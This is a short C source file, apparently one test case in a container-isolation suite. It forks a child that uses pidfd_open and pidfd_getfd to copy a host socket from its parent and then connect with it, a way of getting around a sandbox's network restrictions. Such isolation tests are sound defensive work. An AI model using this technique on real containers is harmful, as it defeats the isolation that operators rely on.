/* Takes a host socket from another process of the container by pidfd_getfd, and connects it. */
#include "attack.h"

static void attack(void) {
    int fd = dissolved(SOCK_STREAM);
    pid_t parent = getpid();
    if (fork() == 0) {
        close(fd);
        int pidfd = must(syscall(SYS_pidfd_open, parent, 0), "pidfd_open");
        reach(must(syscall(SYS_pidfd_getfd, pidfd, fd, 0), "pidfd_getfd"));
        _exit(0);
    }
    wait(NULL);
}
